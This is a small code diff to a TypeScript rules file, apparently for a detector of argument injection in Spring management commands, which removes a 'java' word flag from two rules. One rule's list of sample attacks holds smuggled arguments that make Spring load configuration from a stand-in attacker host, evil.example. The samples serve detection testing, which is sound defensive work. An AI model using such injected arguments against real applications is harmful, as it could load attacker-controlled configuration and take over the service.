@@ -52,7 +52,7 @@ export const managementRules: readonly Rule[] = [
       score: 5,
       quotable: true,
       chars: CHAR.scheme,
-      words: WORD.java | WORD.probe,
+      words: WORD.probe,
       attacks: [
         'timestamp --spring.config.import=http://evil.example/a.yaml',
         '--spring.cloud.bootstrap.location=http://evil.example/x.yml',
@@ -70,7 +70,7 @@ export const managementRules: readonly Rule[] = [
     quotable: false,
     atStart: true,
     chars: 0,
-    words: WORD.java | WORD.probe,
+    words: WORD.probe,
     find: findLoadingSetting,
     // By where the name stands: the cases are in `test/management.test.ts`.
     attacks: [],
